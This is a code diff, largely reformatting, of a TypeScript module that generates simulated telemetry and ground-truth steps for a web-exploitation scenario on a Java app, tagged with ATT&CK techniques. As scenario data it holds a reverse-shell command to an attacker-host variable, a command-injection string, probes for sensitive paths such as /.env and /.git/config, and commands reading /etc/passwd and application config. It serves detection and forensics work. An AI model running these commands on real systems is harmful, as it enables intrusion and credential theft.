@@ -4,7 +4,7 @@
 // outbound connection; auditd sees the www-data execve chain and its connect().
 
 import { exec } from './actions';
-import { UNSET, connectEvent } from './audit-format';
+import { connectEvent, UNSET } from './audit-format';
 import { type Ctx, ephemeralPort, tcpSession } from './ctx';
 import type { Rng } from './prng';
 import { iso } from './time-format';
@@ -14,7 +14,20 @@ import { type Host, hostOf } from './world';
 const S = 1_000;
 const MIN = 60_000;
 const WWW = 33;
-const PROBES = ['/manager/html', '/.env', '/actuator/env', '/actuator/health', '/api/v1/users', '/console', '/admin', '/jolokia', '/.git/config', '/wp-login.php', '/solr/admin/info/system', '/api/swagger.json'];
+const PROBES = [
+  '/manager/html',
+  '/.env',
+  '/actuator/env',
+  '/actuator/health',
+  '/api/v1/users',
+  '/console',
+  '/admin',
+  '/jolokia',
+  '/.git/config',
+  '/wp-login.php',
+  '/solr/admin/info/system',
+  '/api/swagger.json',
+];
 
 type Draft = Omit<TruthStepDraft, 'scenario' | 'start' | 'end'> & { start: number; end: number };
 
@@ -40,21 +53,69 @@ export function webExploit(ctx: Ctx, rng: Rng): TruthStepDraft[] {
   const n = rng.int(26, 34);
   for (let i = 0; i < n; i++) {
     const path = PROBES[i % PROBES.length] ?? '/';
-    ctx.flow(tcpSession({ t, durMs: rng.int(30, 400), src: atk, sport: ephemeralPort(rng), dst: web.ip, dport: 8080, up: 180 + path.length + rng.int(120, 260), down: rng.int(380, 1_100), step: 'web-probe' }));
+    ctx.flow(
+      tcpSession({
+        t,
+        durMs: rng.int(30, 400),
+        src: atk,
+        sport: ephemeralPort(rng),
+        dst: web.ip,
+        dport: 8080,
+        up: 180 + path.length + rng.int(120, 260),
+        down: rng.int(380, 1_100),
+        step: 'web-probe',
+      }),
+    );
     t += rng.int(1_500, 6_000);
   }
-  steps.push(draft({ id: 'web-probe', stage: 'recon', technique: 'T1595.003', host: web.name, hostIp: web.ip, peer: atk, start: t0, end: t, note: `${n} content-discovery requests to :8080 (no web access log in the bundle)` }));
+  steps.push(
+    draft({
+      id: 'web-probe',
+      stage: 'recon',
+      technique: 'T1595.003',
+      host: web.name,
+      hostIp: web.ip,
+      peer: atk,
+      start: t0,
+      end: t,
+      note: `${n} content-discovery requests to :8080 (no web access log in the bundle)`,
+    }),
+  );
 
   const te = t + rng.int(40, 90) * S;
   ctx.flow(tcpSession({ t: te, durMs: 1_400, src: atk, sport: ephemeralPort(rng), dst: web.ip, dport: 8080, up: 2_430, down: 312, step: 'web-exploit' }));
-  steps.push(draft({ id: 'web-exploit', stage: 'delivery', technique: 'T1190', host: web.name, hostIp: web.ip, peer: atk, start: te, end: te + 1_400, note: 'one POST carrying a command-injection payload to the Java app on :8080' }));
+  steps.push(
+    draft({
+      id: 'web-exploit',
+      stage: 'delivery',
+      technique: 'T1190',
+      host: web.name,
+      hostIp: web.ip,
+      peer: atk,
+      start: te,
+      end: te + 1_400,
+      note: 'one POST carrying a command-injection payload to the Java app on :8080',
+    }),
+  );
 
-  const java = 1_000 + (web.index * 97) % 800;
+  const java = 1_000 + ((web.index * 97) % 800);
   const rce = te + 600;
   const rceSh = asWww(ctx, web, rce, ['/bin/sh', '-c', 'id;uname -a'], java, 'web-rce');
   asWww(ctx, web, rce + 4, ['id'], rceSh.pid, 'web-rce', rceSh.pid + 1);
   asWww(ctx, web, rce + 9, ['uname', '-a'], rceSh.pid, 'web-rce', rceSh.pid + 2);
-  steps.push(draft({ id: 'web-rce', stage: 'exploitation', technique: 'T1059.004', host: web.name, hostIp: web.ip, peer: atk, start: rce, end: rce + 9, note: 'www-data (euid 33) java spawns /bin/sh -c "id;uname -a"' }));
+  steps.push(
+    draft({
+      id: 'web-rce',
+      stage: 'exploitation',
+      technique: 'T1059.004',
+      host: web.name,
+      hostIp: web.ip,
+      peer: atk,
+      start: rce,
+      end: rce + 9,
+      note: 'www-data (euid 33) java spawns /bin/sh -c "id;uname -a"',
+    }),
+  );
 
   const tr = te + rng.int(20, 40) * S;
   const revCmd = `bash -i >& /dev/tcp/${atk}/443 0>&1`;
@@ -65,16 +126,60 @@ export function webExploit(ctx: Ctx, rng: Rng): TruthStepDraft[] {
   ctx.audit(web, tr + 5, connectEvent(child, ['bash', '-c', revCmd], atk, 443), 'web-revshell');
   const bashProc = asWww(ctx, web, tr + 6, ['bash', '-i'], outer.pid, 'web-revshell', child.pid);
   const dur = rng.int(28, 42) * MIN;
-  ctx.flow(tcpSession({ t: tr + 5, durMs: dur, src: web.ip, sport: ephemeralPort(rng), dst: atk, dport: 443, up: rng.int(40_000, 90_000), down: rng.int(4_000, 9_000), step: 'web-revshell' }));
-  steps.push(draft({ id: 'web-revshell', stage: 'c2', technique: 'T1095', host: web.name, hostIp: web.ip, peer: atk, start: tr, end: tr + 7 + dur, note: `reverse shell "${revCmd}": raw TCP (not TLS) on 443 for ${Math.round(dur / MIN)} minutes` }));
+  ctx.flow(
+    tcpSession({
+      t: tr + 5,
+      durMs: dur,
+      src: web.ip,
+      sport: ephemeralPort(rng),
+      dst: atk,
+      dport: 443,
+      up: rng.int(40_000, 90_000),
+      down: rng.int(4_000, 9_000),
+      step: 'web-revshell',
+    }),
+  );
+  steps.push(
+    draft({
+      id: 'web-revshell',
+      stage: 'c2',
+      technique: 'T1095',
+      host: web.name,
+      hostIp: web.ip,
+      peer: atk,
+      start: tr,
+      end: tr + 7 + dur,
+      note: `reverse shell "${revCmd}": raw TCP (not TLS) on 443 for ${Math.round(dur / MIN)} minutes`,
+    }),
+  );
 
   let tc = tr + 40 * S;
   let child2 = bashProc.pid + 1;
-  const cmds = [['id'], ['whoami'], ['uname', '-a'], ['cat', '/etc/passwd'], ['ls', '-la', '/opt/app'], ['ps', 'aux'], ['cat', '/opt/app/config/application.properties']];
+  const cmds = [
+    ['id'],
+    ['whoami'],
+    ['uname', '-a'],
+    ['cat', '/etc/passwd'],
+    ['ls', '-la', '/opt/app'],
+    ['ps', 'aux'],
+    ['cat', '/opt/app/config/application.properties'],
+  ];
   for (const argv of cmds) {
     asWww(ctx, web, tc, argv, bashProc.pid, 'web-discovery', Math.max(child2++, ctx.pidAt(web, tc)));
     tc += rng.int(8, 70) * S;
   }
-  steps.push(draft({ id: 'web-discovery', stage: 'exploitation', technique: 'T1082', host: web.name, hostIp: web.ip, peer: atk, start: tr + 40 * S, end: tc, note: 'commands typed in the reverse shell as www-data: id, uname, cat /etc/passwd, ps, app config' }));
+  steps.push(
+    draft({
+      id: 'web-discovery',
+      stage: 'exploitation',
+      technique: 'T1082',
+      host: web.name,
+      hostIp: web.ip,
+      peer: atk,
+      start: tr + 40 * S,
+      end: tc,
+      note: 'commands typed in the reverse shell as www-data: id, uname, cat /etc/passwd, ps, app config',
+    }),
+  );
   return steps;
 }
